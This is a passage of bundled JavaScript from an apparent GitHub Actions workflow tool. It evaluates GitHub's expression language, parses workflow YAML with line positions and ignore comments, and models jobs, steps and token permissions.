}
/** `==`: same kind after coercion; NaN equals nothing; objects and arrays only themselves. */
function looseEquals(left, right) {
    const [l, r] = coerce(left, right);
    if (l.kind !== r.kind)
        return false;
    switch (l.kind) {
        case 'null':
            return true;
        case 'number':
            return l.value === r.value;
        case 'string':
            return compareIgnoringCase(l.value, r.value) === 0;
        case 'boolean':
            return l.value === r.value;
        default:
            return l.value === r.value;
    }
}
/** `>` (order > 0) or `<` (order < 0) after coercion; false for NaN, null, objects and arrays. */
function ordered(left, right, order) {
    const [l, r] = coerce(left, right);
    if (l.kind !== r.kind)
        return false;
    switch (l.kind) {
        case 'number': {
            const a = l.value;
            const b = r.value;
            return order > 0 ? a > b : a < b;
        }
        case 'string':
            return compareIgnoringCase(l.value, r.value) * order > 0;
        case 'boolean':
            return order > 0
                ? l.value === true && r.value === false
                : l.value === false && r.value === true;
        default:
            return false;
    }
}
function greaterThan(left, right) {
    return ordered(left, right, 1);
}
function lessThan(left, right) {
    return ordered(left, right, -1);
}
/**
 * Looks a key up as the runner's dictionaries do: case-insensitively. An exact match wins so that
 * an object holding both `a` and `A` stays predictable.
 */
function lookup(object, key) {
    if (Object.hasOwn(object, key))
        return object[key];
    const upper = key.toUpperCase();
    for (const name of Object.keys(object)) {
        if (name.toUpperCase() === upper)
            return object[name];
    }
    return undefined;
}
/** Converts what a YAML or JSON reader gives (undefined, Dates...) into a Value. */
function toValue(input) {
    if (input === undefined || input === null)
        return null;
    switch (typeof input) {
        case 'boolean':
        case 'number':
        case 'string':
            return input;
        case 'bigint':
            return Number(input);
        case 'object':
            if (Array.isArray(input))
                return input.map(toValue);
            if (input instanceof Date)
                return input.toISOString();
            return Object.fromEntries(Object.entries(input).map(([k, v]) => [k, toValue(v)]));
        default:
            // Functions and symbols have no value in the expression language.
            return null;
    }
}


/***/ }),

/***/ 27499:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  F9: () => (/* binding */ evaluateCondition),
  zG: () => (/* binding */ evaluateValue),
  l$: () => (/* binding */ expressionsIn),
  GW: () => (/* binding */ interpolate),
  BX: () => (/* binding */ scanExpressions)
});

// UNUSED EXPORTS: CONTEXT_NAMES, ExpressionError, FUNCTIONS, MAX_EXPRESSION_DEPTH, MAX_EXPRESSION_LENGTH, STATUS_FUNCTIONS, UNCLOSED_EXPRESSION, callsStatusFunction, evaluateExpression, format, formatNumber, greaterThan, isPrimitive, kindOf, lessThan, lookup, looseEquals, parseExpression, parseNumber, toBoolean, toNumber, toText, toValue, wholeExpression

// EXTERNAL MODULE: ./packages/workflow/src/expression-parser.ts
var expression_parser = __webpack_require__(11193);
// EXTERNAL MODULE: ./packages/workflow/src/expression-values.ts
var expression_values = __webpack_require__(41620);
;// CONCATENATED MODULE: ./packages/workflow/src/expression-evaluator.ts
// Evaluating a parsed expression against the contexts of a job or step.


// Arrays made by a `*` filter: an index applied to one applies to each of its items
// (`needs.*.result`), where an index applied to an ordinary array picks an item.
const filtered = new WeakSet();
function filteredArray(items) {
    filtered.add(items);
    return items;
}
function evaluateNode(node, ctx, text) {
    switch (node.kind) {
        case 'literal':
            return node.value;
        case 'context':
            return (0,expression_values/* lookup */.$I)(ctx.contexts, node.name) ?? null;
        case 'index':
            return evaluateIndex(node, ctx, text);
        case 'not':
            return !(0,expression_values/* toBoolean */.G4)(evaluateNode(node.operand, ctx, text));
        case 'compare': {
            const left = evaluateNode(node.left, ctx, text);
            const right = evaluateNode(node.right, ctx, text);
            switch (node.operator) {
                case '==':
                    return (0,expression_values/* looseEquals */.KU)(left, right);
                case '!=':
                    return !(0,expression_values/* looseEquals */.KU)(left, right);
                case '<':
                    return (0,expression_values/* lessThan */.Xe)(left, right);
                case '<=':
                    return (0,expression_values/* lessThan */.Xe)(left, right) || (0,expression_values/* looseEquals */.KU)(left, right);
                case '>':
                    return (0,expression_values/* greaterThan */.MM)(left, right);
                case '>=':
                    return (0,expression_values/* greaterThan */.MM)(left, right) || (0,expression_values/* looseEquals */.KU)(left, right);
            }
            break;
        }
        case 'and': {
            // `&&` yields the first falsy operand, or the last one: `a && 'x'` can be 'x'.
            let value = null;
            for (const operand of node.operands) {
                value = evaluateNode(operand, ctx, text);
                if (!(0,expression_values/* toBoolean */.G4)(value))
                    return value;
            }
            return value;
        }
        case 'or': {
            let value = null;
            for (const operand of node.operands) {
                value = evaluateNode(operand, ctx, text);
                if ((0,expression_values/* toBoolean */.G4)(value))
                    return value;
            }
            return value;
        }
        case 'call':
            return callFunction(node.name, node.args, ctx, text);
    }
}
function evaluateIndex(node, ctx, text) {
    const target = evaluateNode(node.target, ctx, text);
    const wildcard = node.index.kind === 'wildcard';
    const index = node.index.kind === 'wildcard' ? null : evaluateNode(node.index, ctx, text);
    if (target === null || typeof target !== 'object')
        return wildcard ? filteredArray([]) : null;
    if (Array.isArray(target) && filtered.has(target)) {
        const result = [];
        for (const item of target) {
            if (item === null || typeof item !== 'object')
                continue;
            if (wildcard) {
                result.push(...(Array.isArray(item) ? item : Object.values(item)));
                continue;
            }
            const picked = pick(item, index);
            if (picked !== undefined)
                result.push(picked);
        }
        return filteredArray(result);
    }
    if (wildcard)
        return filteredArray(Array.isArray(target) ? [...target] : Object.values(target));
    return pick(target, index) ?? null;
}
/** An item of an array by integer index (floored), or a member of an object by key (any case). */
function pick(collection, index) {
    if (Array.isArray(collection)) {
        const n = (0,expression_values/* toNumber */.Ro)(index);
        if (Number.isNaN(n) || n < 0)
            return undefined;
        return collection[Math.floor(n)];
    }
    if (!(0,expression_values/* isPrimitive */.sO)(index))
        return undefined;
    return (0,expression_values/* lookup */.$I)(collection, (0,expression_values/* toText */.fE)(index));
}
function callFunction(name, args, ctx, text) {
    const arg = (i) => evaluateNode(args[i], ctx, text);
    const status = ctx.status ?? { success: true, failure: false, cancelled: false };
    switch (name) {
        case 'success':
            return status.success;
        case 'failure':
            return status.failure;
        case 'cancelled':
            return status.cancelled;
        case 'always':
            return true;
        case 'contains': {
            const haystack = arg(0);
            const needle = arg(1);
            if ((0,expression_values/* isPrimitive */.sO)(haystack)) {
                return (0,expression_values/* isPrimitive */.sO)(needle) && includesIgnoringCase((0,expression_values/* toText */.fE)(haystack), (0,expression_values/* toText */.fE)(needle));
            }
            return Array.isArray(haystack) && haystack.some((item) => (0,expression_values/* looseEquals */.KU)(needle, item));
        }
        case 'startswith':
        case 'endswith': {
            const subject = arg(0);
            const part = arg(1);
            if (!(0,expression_values/* isPrimitive */.sO)(subject) || !(0,expression_values/* isPrimitive */.sO)(part))
                return false;
            const s = (0,expression_values/* toText */.fE)(subject).toUpperCase();
            const p = (0,expression_values/* toText */.fE)(part).toUpperCase();
            return name === 'startswith' ? s.startsWith(p) : s.endsWith(p);
        }
        case 'format':
            return format((0,expression_values/* toText */.fE)(arg(0)), args.length - 1, (i) => (0,expression_values/* toText */.fE)(arg(i + 1)), text);
        case 'join': {
            const items = arg(0);
            if (Array.isArray(items)) {
                const separatorValue = args.length > 1 ? arg(1) : ',';
                const separator = (0,expression_values/* isPrimitive */.sO)(separatorValue) ? (0,expression_values/* toText */.fE)(separatorValue) : ',';
                return items.map((item) => ((0,expression_values/* isPrimitive */.sO)(item) ? (0,expression_values/* toText */.fE)(item) : '')).join(separator);
            }
            return (0,expression_values/* isPrimitive */.sO)(items) ? (0,expression_values/* toText */.fE)(items) : '';
        }
        case 'tojson':
            return JSON.stringify(arg(0), jsonReplacer, 2);
        case 'fromjson': {
            const json = (0,expression_values/* toText */.fE)(arg(0));
            try {
                return (0,expression_values/* toValue */.BA)(JSON.parse(json));
            }
            catch (error) {
                throw new expression_parser/* ExpressionError */.tj(`Error reading JSON in fromJSON('${json}'): ${error.message}. Pass it valid JSON, e.g. '{"a": 1}' or '["a", "b"]'.`, text);
            }
        }
        case 'hashfiles': {
            const patterns = args.map((_, i) => (0,expression_values/* toText */.fE)(arg(i)));
            if (ctx.hashFiles === undefined) {
                throw new expression_parser/* ExpressionError */.tj(`hashFiles(${patterns.map((p) => `'${p}'`).join(', ')}) cannot be evaluated here: there is no workspace to hash files in.`, text);
            }
            return ctx.hashFiles(patterns);
        }
    }
    // The parser admits only the functions above.
    throw new expression_parser/* ExpressionError */.tj(`Unrecognized function: '${name}'`, text);
}
// JSON has no NaN or Infinity; the runner writes them as these words.
function jsonReplacer(_key, value) {
    if (typeof value === 'number' && !Number.isFinite(value))
        return (0,expression_values/* toText */.fE)(value);
    return value;
}
function includesIgnoringCase(haystack, needle) {
    return haystack.toUpperCase().includes(needle.toUpperCase());
}
/**
 * `format('{0} and {1}', a, b)`: `{N}` is argument N as text, `{{` and `}}` are literal braces.
 * A lone brace, a bad index or an index past the arguments is an error, as on GitHub.
 */
function format(template, argumentCount, argument, text) {
    const invalid = () => new expression_parser/* ExpressionError */.tj(`The following format string is invalid: ${template}`, text);
    let result = '';
    let i = 0;
    while (i < template.length) {
        const c = template[i];
        if (c === '{') {
            if (template[i + 1] === '{') {
                result += '{';
                i += 2;
                continue;
            }
            const match = /^\{(\d+)\}/.exec(template.slice(i));
            if (match === null) {
                // `{0:x}` is .NET's format specifier syntax: the runner accepts none for these values.
                const specifier = /^\{\d+:([^}]*)\}/.exec(template.slice(i));
                if (specifier !== null) {
                    throw new expression_parser/* ExpressionError */.tj(`The format specifiers '${specifier[1]}' are not valid for objects of this type: ${template}`, text);
                }
                throw invalid();
            }
            const index = Number(match[1]);
            if (index > 255)
                throw invalid();
            if (index >= argumentCount) {
                throw new expression_parser/* ExpressionError */.tj(`The following format string references more arguments than were supplied: ${template}`, text);
            }
            result += argument(index);
            i += match[0].length;
        }
        else if (c === '}') {
            if (template[i + 1] !== '}')
                throw invalid();
            result += '}';
            i += 2;
        }
        else {
            result += c;
            i++;
        }
    }
    return result;
}

;// CONCATENATED MODULE: ./packages/workflow/src/expressions.ts
// GitHub's expression language as a workflow uses it: `${{ }}` inside strings, whole values that
// keep their type, and `if:` conditions with their implicit success().






const UNCLOSED_EXPRESSION = 'The expression is not closed. An unescaped ${{ sequence was found, but the closing }} sequence was not found.';
/**
 * Every `${{ … }}` in a string, in order, and where an unclosed `${{` starts (if one does). A `}}`
 * inside a quoted string ('a}}b') does not close the expression. For readers that must tolerate
 * broken files (doctor); expressionsIn is the strict form.
 */
function scanExpressions(text) {
    const found = [];
    let from = 0;
    for (;;) {
        const start = text.indexOf('${{', from);
        if (start < 0)
            return { found, unclosedAt: undefined };
        let i = start + 3;
        let quoted = false;
        let end = -1;
        while (i < text.length) {
            const c = text[i];
            // '' inside a string closes and reopens it: the toggle handles the escape by itself.
            if (c === "'")
                quoted = !quoted;
            else if (!quoted && c === '}' && text[i + 1] === '}') {
                end = i + 2;
                break;
            }
            i++;
        }
        if (end < 0)
            return { found, unclosedAt: start };
        found.push({ expression: text.slice(start + 3, end - 2).trim(), start, end });
        from = end;
    }
}
/** Every `${{ … }}` in a string, in order. An unclosed `${{` is an ExpressionError, as on GitHub. */
function expressionsIn(text) {
    const { found, unclosedAt } = scanExpressions(text);
    if (unclosedAt !== undefined) {
        throw new expression_parser/* ExpressionError */.tj(UNCLOSED_EXPRESSION, text.slice(unclosedAt));
    }
    return found;
}
function parseFor(expression, ctx) {
    return (0,expression_parser/* parseExpression */.YK)(expression, { namedValues: Object.keys(ctx.contexts) });
}
/**
 * Evaluates an expression (without `${{ }}`). The names it may use are the keys of
 * `ctx.contexts`: as on GitHub, naming a context this place does not offer is an error.
 */
function evaluateExpression(text, ctx) {
    return evaluateNode(parseFor(text, ctx), ctx, text);
}
/**
 * A string with each `${{ }}` replaced by its value as text (null is '', numbers as the runner
 * prints them, an object 'Object' and an array 'Array': use toJSON() to print a structure).
 */
function interpolate(text, ctx) {
    const parts = expressionsIn(text);
    if (parts.length === 0)
        return text;
    let result = '';
    let last = 0;
    for (const part of parts) {
        result += text.slice(last, part.start) + (0,expression_values/* toText */.fE)(evaluateExpression(part.expression, ctx));
        last = part.end;
    }
    return result + text.slice(last);
}
/** The expression a string is, when it is exactly one `${{ }}` and nothing around it. */
function wholeExpression(text) {
    if (!text.startsWith('${{'))
        return undefined;
    const parts = expressionsIn(text);
    const only = parts[0];
    return parts.length === 1 && only !== undefined && only.end === text.length
        ? only.expression
        : undefined;
}
/**
 * Evaluates the expressions in a value from a workflow (`with:`, `env:`, a matrix, outputs):
 * a string that is exactly one `${{ expr }}` becomes that expression's value, with its type;
 * other strings are interpolated; arrays and mappings are walked (keys too); the rest is kept.
 */
function evaluateValue(value, ctx) {
    if (typeof value === 'string') {
        const expression = wholeExpression(value);
        return expression === undefined ? interpolate(value, ctx) : evaluateExpression(expression, ctx);
    }
    if (Array.isArray(value))
        return value.map((item) => evaluateValue(item, ctx));
    if (value !== null && typeof value === 'object' && !(value instanceof Date)) {
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [
            interpolate(k, ctx),
            evaluateValue(v, ctx),
        ]));
    }
    return value;
}
/**
 * Evaluates an `if:` as GitHub does: `${{ }}` is optional; a condition that calls none of
 * success(), failure(), cancelled(), always() means `success() && (condition)`; no condition
 * (or an empty one) means success(). Text around a `${{ }}` turns the condition into a string,
 * true when not empty.
 */
function evaluateCondition(condition, ctx) {
    const success = ctx.status?.success ?? true;
    // An empty `if:` is no condition at all.
    if (condition === undefined || condition === null)
        return success;
    if (typeof condition === 'string' && condition.trim() === '')
        return success;
    const text = typeof condition === 'string' ? condition : String(condition);
    const parts = expressionsIn(text);
    let nodes;
    let evaluate;
    const whole = wholeExpression(text);
    if (parts.length === 0 || whole !== undefined) {
        const expression = whole ?? text;
        const node = parseFor(expression, ctx);
        nodes = [node];
        evaluate = () => evaluateNode(node, ctx, expression);
    }
    else {
        nodes = parts.map((part) => parseFor(part.expression, ctx));
        evaluate = () => interpolate(text, ctx);
    }
    if (!nodes.some(expression_parser/* callsStatusFunction */.AT) && !success)
        return false;
    return (0,expression_values/* toBoolean */.G4)(evaluate());
}


/***/ }),

/***/ 28154:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $S: () => (/* binding */ localPath),
/* harmony export */   Bb: () => (/* binding */ jobGrantsIdToken),
/* harmony export */   HD: () => (/* binding */ readSourceWorkflow),
/* harmony export */   VE: () => (/* binding */ environmentName),
/* harmony export */   aM: () => (/* binding */ actionName),
/* harmony export */   g5: () => (/* binding */ isSelfRepositoryRef),
/* harmony export */   kE: () => (/* binding */ readSourceStep),
/* harmony export */   oZ: () => (/* binding */ upstreamJobs)
/* harmony export */ });
/* unused harmony exports readSourcePermissions, readEvents, stepInput */
function readSourcePermissions(node) {
    if (!node)
        return undefined;
    const text = node.str();
    if (text !== undefined) {
        return { node, idToken: text === 'write-all', writeAll: text === 'write-all' };
    }
    return { node, idToken: node.get('id-token')?.str() === 'write', writeAll: false };
}
function readInputs(node) {
    if (!node)
        return [];
    return node
        .entries()
        .map(([name, value]) => ({ name, type: value.get('type')?.str(), node: value }));
}
function readEvents(on) {
    const events = new Map();
    if (!on)
        return events;
    if (on.isMap())
        for (const [name, value] of on.entries())
            events.set(name, value);
    else
        for (const name of on.strings())
            events.set(name, undefined);
    return events;
}
function readSourceStep(node, job, action) {
    const usesNode = node.get('uses');
    const runNode = node.get('run');
    return {
        node,
        job,
        action,
        via: undefined,
        uses: usesNode?.str()?.trim(),
        usesNode,
        run: runNode?.str(),
        runNode,
        with: node.get('with'),
        env: node.get('env'),
        if: node.get('if'),
        name: node.get('name')?.str(),
        id: node.get('id')?.str(),
        continueOnError: node.get('continue-on-error'),
    };
}
/** Reads one workflow document; undefined when it is not a workflow (no `jobs:` map). */
function readSourceWorkflow(file, node) {
    const jobsNode = node.get('jobs');
    if (!node.isMap() || !jobsNode?.isMap())
        return undefined;
    const on = node.get('on') ?? node.get('true');
    const events = readEvents(on);
    const workflow = {
        file,
        node,
        on,
        events,
        permissions: readSourcePermissions(node.get('permissions')),
        env: node.get('env'),
        concurrency: node.get('concurrency'),
        jobs: [],
        inputs: [
            ...readInputs(events.get('workflow_dispatch')?.get('inputs')),
            ...readInputs(events.get('workflow_call')?.get('inputs')),
        ],
    };
    for (const [id, jobNode] of jobsNode.entries()) {
        const job = {
            id,
            workflow,
            node: jobNode,
            needs: jobNode.get('needs')?.strings() ?? [],
            permissions: readSourcePermissions(jobNode.get('permissions')),
            environment: jobNode.get('environment'),
            if: jobNode.get('if'),
            env: jobNode.get('env'),
            concurrency: jobNode.get('concurrency'),
            strategy: jobNode.get('strategy'),
            container: jobNode.get('container'),
            continueOnError: jobNode.get('continue-on-error'),
            steps: [],
            uses: jobNode.get('uses'),
            with: jobNode.get('with'),
            secrets: jobNode.get('secrets'),
            called: undefined,
        };
        job.steps = (jobNode.get('steps')?.items() ?? []).map((step) => readSourceStep(step, job, undefined));
        workflow.jobs.push(job);
    }
    return workflow;
}
/** The name of a job's environment (`environment: x` or `environment: {name: x}`); '' if none. */
function environmentName(job) {
    const node = job.environment;
    if (!node || node.isNull())
        return '';
    return (node.isMap() ? node.get('name')?.str() : node.str())?.trim() ?? '';
}
/**
 * Whether the job's GITHUB_TOKEN can mint OIDC tokens: its own `permissions:`, else the
 * workflow's; with neither, GitHub's default (no id-token), except in a reusable workflow, which
 * inherits its caller's (undefined: not knowable from this file).
 */
function jobGrantsIdToken(job) {
    if (job.permissions)
        return job.permissions.idToken;
    if (job.workflow.permissions)
        return job.workflow.permissions.idToken;
    if (job.workflow.events.has('workflow_call'))
        return undefined;
    return false;
}
/** The jobs `job` waits for, directly or not. */
function upstreamJobs(job) {
    const byId = new Map(job.workflow.jobs.map((each) => [each.id, each]));
    const seen = new Set();
    const visit = (ids) => {
        for (const id of ids) {
            const upstream = byId.get(id);
            if (upstream && !seen.has(upstream)) {
                seen.add(upstream);
                visit(upstream.needs);
            }
        }
    };
    visit(job.needs);
    return [...seen];
}
/** The `with:` input of a step as text. */
function stepInput(step, name) {
    return step.with?.get(name)?.str();
}
/**
 * The repository path (`.github/actions/setup`) of a local `uses:`: `./path` (in the checked-out
 * workspace) or `$/path` (this repository at the running commit, no checkout needed); undefined
 * for anything else.
 */
function localPath(uses) {
    const match = /^(\.|\$)\/(.*)$/.exec(uses ?? '');
    return match ? match[2].replace(/\/+$/, '') || '.' : undefined;
}
/** Whether `uses:` is written `$/path`: it never depends on what the job checked out. */
function isSelfRepositoryRef(uses) {
    return uses?.startsWith('$/') ?? false;
}
/** `owner/repo/path@ref` of a step's action, lower-cased owner/repo, no ref; '' for none. */
function actionName(uses) {
    if (!uses || localPath(uses) !== undefined || uses.startsWith('docker://'))
        return '';
    return uses.split('@')[0].toLowerCase();
}


/***/ }),

/***/ 98349:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   s: () => (/* binding */ WorkflowError)
/* harmony export */ });
/**
 * A mistake in a workflow, or in what is given to it (inputs): the message says what was found,
 * where (`file:line`), and the fix.
 */
class WorkflowError extends Error {
    name = 'WorkflowError';
    file;
    line;
    column;
    constructor(location, problem) {
        super(`${where(location)}${problem}`);
        this.file = location.file;
        this.line = location.line;
        this.column = location.column ?? 0;
    }
}
function where({ file, line }) {
    if (file === '')
        return '';
    return line > 0 ? `${file}:${line}: ` : `${file}: `;
}


/***/ }),

/***/ 64344:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   WF: () => (/* binding */ parseYamlSource),
/* harmony export */   gM: () => (/* binding */ readYaml)
/* harmony export */ });
/* unused harmony export YNode */
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _workflow_error_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(98349);
// A YAML file read with positions: every node knows its line and column, comments are kept for
// the `# tokenless-ignore:` directive, anchors and aliases resolve, each `---` document is its own
// tree, and a syntax error becomes a located error instead of an exception. The tolerant reader
// (doctor reads broken files too); readYaml is the strict form the workflow model is built on.


const IGNORE = /^#\s*tokenless-ignore\s*:?\s*(.*)$/;
/** Parses `text` (never throws): syntax errors land in `errors` with their line. */
function parseYamlSource(path, rel, text) {
    const file = parseText(path, rel, text, text);
    if (file.errors.length === 0)
        return file;
    // GitHub reads a quoted value whose continuation lines start left of its key (libyaml does not
    // check their indentation): read such a file with those lines indented, as GitHub does.
    const indented = indentQuotedContinuations(text);
    if (indented === text)
        return file;
    const lenient = parseText(path, rel, text, indented);
    return lenient.errors.length === 0 ? lenient : file;
}
/** A value that opens a quote it does not close on its line: `key: 'text…` or `- "text…`. */
const OPENS_QUOTE = /^\s*(?:- +)?(?:[^\s#'"][^#'"]*?:\s+|- +)(['"])(.*)$/;
/** Whether `rest` (the text after an opening quote) closes it. */
function closesQuote(rest, quote) {
    if (quote === "'")
        return rest.replace(/''/g, '').includes("'");
    return /(?:^|[^\\])(?:\\\\)*"/.test(rest);
}
/**
 * The text with every continuation line of a quoted value that starts at or left of its key
 * indented one column past the key; the text itself when there is none.
 */
function indentQuotedContinuations(text) {
    const lines = text.split('\n');
    let changed = false;
    for (let index = 0; index < lines.length; index++) {
        const match = OPENS_QUOTE.exec(lines[index]);
        if (!match || closesQuote(match[2], match[1]))
            continue;
        const quote = match[1];
        const opening = lines[index];
        // The column of the key (or of the value, for a list item): continuations go past it.
        const column = opening.length - opening.replace(/^\s*(?:- +)*/, '').length;
        const pad = ' '.repeat(column + 1);
        for (index++; index < lines.length; index++) {
            const line = lines[index];
            const lead = /^ */.exec(line)[0].length;
            if (line.trim() !== '' && lead <= column) {
                lines[index] = pad + line.slice(lead);
                changed = true;
            }
            if (closesQuote(line, quote))
                break;
        }
    }
    return changed ? lines.join('\n') : text;
}
function parseText(path, rel, text, read) {
    const lineCounter = new yaml__WEBPACK_IMPORTED_MODULE_0__/* .LineCounter */ .HN();
    const parser = new yaml__WEBPACK_IMPORTED_MODULE_0__/* .Parser */ .iX(lineCounter.addNewLine);
    const tokens = [...parser.parse(read)];
    const positionAt = (offset) => {
        const { line, col } = lineCounter.linePos(Math.min(offset, read.length));
        return { line, column: col };
    };
    const lines = text.split(/\r?\n/);
    const file = {
        path,
        rel,
        text,
        lines,
        documents: [],
        errors: [],
        duplicateKeys: [],
        ignores: [],
        positionAt,
    };
    if (text.includes('tokenless-ignore'))
        collectIgnores(tokens, file);
    const composer = new yaml__WEBPACK_IMPORTED_MODULE_0__/* .Composer */ .Dk({ merge: true });
    for (const document of composer.compose(tokens, true)) {
        let broken = false;
        for (const error of document.errors) {
            const { line, column } = positionAt(error.pos[0]);
            const found = { line, column, message: firstLine(error.message) };
            if (error.code === 'DUPLICATE_KEY')
                file.duplicateKeys.push(found);
            else {
                file.errors.push(found);
                broken = true;
            }
        }
        if (!broken && document.contents)
            file.documents.push(new YNode(document.contents, document, file));
    }
    return file;
}
function firstLine(message) {
    return message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '');
}
/** Walks the CST for comment tokens; YAML has no other place a comment can hide. */
function collectIgnores(tokens, file) {
    const visit = (value) => {
        if (Array.isArray(value)) {
            for (const item of value)
                visit(item);
            return;
        }
        if (!value || typeof value !== 'object')
            return;
        const token = value;
        if (token.type === 'comment' &&
            typeof token.source === 'string' &&
            typeof token.offset === 'number') {
            const match = IGNORE.exec(token.source);
            if (match) {
                const { line, column } = file.positionAt(token.offset);
                const body = match[1].trim();
                const ids = /^([\w-]+(?:\s*,\s*[\w-]+)*)\s*(.*)$/.exec(body);
                const before = (file.lines[line - 1] ?? '').slice(0, column - 1);
                file.ignores.push({
                    line,
                    column,
                    ownLine: before.trim() === '',
                    rules: ids ? ids[1].split(',').map((id) => id.trim()) : [],
                    reason: ids ? ids[2].trim() : '',
                });
            }
            return;
        }
        for (const [key, child] of Object.entries(value))
            if (key !== 'source')
                visit(child);
    };
    visit(tokens);
}
/** A node of one YAML document, with the file it came from and its key when it is a map value. */
class YNode {
    node;
    doc;
    file;
    keyNode;
    constructor(node, doc, file, 
    /** The key node when this node is the value of a map entry. */
    keyNode) {
        this.node = node;
        this.doc = doc;
        this.file = file;
        this.keyNode = keyNode;
    }
    resolved() {
        let node = this.node;
        for (let depth = 0; depth < 20 && node && (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isAlias */ .Vj)(node); depth++)
            node = node.resolve(this.doc) ?? null;
        return node;
    }
    isMap() {
        return (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isMap */ .jh)(this.resolved());
    }
    isSeq() {
        return (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isSeq */ .oP)(this.resolved());
    }
    isNull() {
        const node = this.resolved();
        return node === null || ((0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isScalar */ .jn)(node) && node.value === null);
    }
    /** The scalar's value as text (numbers and booleans too); undefined for maps, lists and null. */
    str() {
        const node = this.resolved();
        if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isScalar */ .jn)(node) || node.value === null || node.value === undefined)
            return undefined;
        const value = node.value;
        return typeof value === 'string' ? value : String(value);
    }
    /** Map entries in order, `<<` merge keys expanded (own keys win). */
    entries() {
        const node = this.resolved();
        if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isMap */ .jh)(node))
            return [];
        const own = [];
        const merged = [];
        for (const pair of node.items) {
            if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isPair */ .tO)(pair))
                continue;
            const key = pair.key;
            if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isScalar */ .jn)(key))
                continue;
            const value = new YNode(pair.value ?? null, this.doc, this.file, key);
            // A `<<` merge key (YAML 1.1, read with `merge: true`) has a symbol for its value.
            if (typeof key.value === 'symbol') {
                const sources = value.isSeq() ? value.items() : [value];
                for (const source of sources)
                    merged.push(...source.entries());
                continue;
            }
            own.push([String(key.value), value]);
        }
        const seen = new Set(own.map(([key]) => key));
        const result = [...own];
        for (const [key, value] of merged) {
            if (seen.has(key))
                continue;
            seen.add(key);
            result.push([key, value]);
        }
        return result;
    }
    get(key) {
        return this.entries().find(([name]) => name === key)?.[1];
    }
    items() {
        const node = this.resolved();
        if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isSeq */ .oP)(node))
            return [];
        return node.items.map((item) => new YNode(item ?? null, this.doc, this.file));
    }
    /** A scalar, or each scalar of a list: `needs: a` and `needs: [a, b]` alike. */
    strings() {
        if (this.isSeq())
            return this.items().flatMap((item) => item.strings());
        const text = this.str();
        return text === undefined ? [] : [text];
    }
    /** Where the value is; for an empty value, where its key is. */
    pos() {
        const node = this.resolved();
        const range = node?.range ?? this.keyNode?.range;
        if (!range || (node && (0,yaml__WEBPACK_IMPORTED_MODULE_0__/* .isScalar */ .jn)(node) && node.value === null && this.keyNode))
            return this.keyPos();
        return this.span(range[0], range[1]);
    }
    /** Where the key is (the value's position when it has no key). */
    keyPos() {
        const range = this.keyNode?.range;
        if (!range)
            return this.node?.range ? this.span(this.node.range[0], this.node.range[1]) : this.span(0, 0);
        return this.span(range[0], range[1]);
    }
    /** The position of `needle` inside this scalar's source text, or of the scalar. */
    find(needle, from = 0) {
        const node = this.resolved();
        const range = node?.range;
        if (range) {
            const at = this.file.text.slice(range[0], range[1]).indexOf(needle, from);
            if (at >= 0)
                return this.span(range[0] + at, range[0] + at + needle.length);
        }
        return this.pos();
    }
    /** The line where this node itself is written (an alias: where `*name` is, not its anchor). */
    ownLine() {
        const range = this.node?.range;
        return range ? this.file.positionAt(range[0]).line : this.pos().line;
    }
    span(start, end) {
        const from = this.file.positionAt(start);
        // A block scalar's range ends after its last line break: end on the content.
        let stop = end;
        while (stop > start && /\s/.test(this.file.text[stop - 1] ?? ''))
            stop--;
        const to = this.file.positionAt(stop);
        return { line: from.line, column: from.column, endLine: to.line, endColumn: to.column };
    }
}
// Anchors may be reused, but not so often that a small file expands into a huge one.
const MAX_ALIAS_COUNT = 1000;
/**
 * Reads a file that must hold exactly one valid YAML document, as GitHub reads a workflow: a
 * syntax error, a duplicate key, an empty file or a second document is a WorkflowError.
 */
function readYaml(text, file) {
    const source = parseYamlSource(file, file, text);
    const error = [...source.errors, ...source.duplicateKeys].sort((a, b) => a.line - b.line || a.column - b.column)[0];
    if (error !== undefined) {
        throw new _workflow_error_js__WEBPACK_IMPORTED_MODULE_1__/* .WorkflowError */ .s({ file, line: Math.max(error.line, 1), column: error.column }, `the YAML does not parse: ${error.message}. Fix the syntax here (indentation, an unquoted ':' or '#' in a value, a missing closing quote).`);
    }
    const [root, second] = source.documents;
    if (root === undefined) {
        throw new _workflow_error_js__WEBPACK_IMPORTED_MODULE_1__/* .WorkflowError */ .s({ file, line: 1 }, 'the file is empty. A workflow needs at least `on:` (the events that start it) and `jobs:`.');
    }
    if (second !== undefined) {
        const start = second.doc.range?.[0] ?? second.node?.range?.[0] ?? 0;
        throw new _workflow_error_js__WEBPACK_IMPORTED_MODULE_1__/* .WorkflowError */ .s({ file, line: Math.max(source.positionAt(start).line, 1) }, 'a second YAML document starts here, but a workflow file holds exactly one. Remove the `---` separator, or move the second document into a file of its own.');
    }
    let data;
    try {
        data = root.doc.toJS({ maxAliasCount: MAX_ALIAS_COUNT });
    }
    catch (error) {
        throw new _workflow_error_js__WEBPACK_IMPORTED_MODULE_1__/* .WorkflowError */ .s({ file, line: 1 }, `the YAML cannot be read: ${error.message}. Use fewer aliases (*name), or write the values out.`);
    }
    return { source, data, lineOf: (path) => lineOf(root, path) };
}
function lineOf(root, path) {
    let node = root;
    let line = root.pos().line;
    for (const segment of path) {
        let next;
        if (node.isMap())
            next = node.get(String(segment));
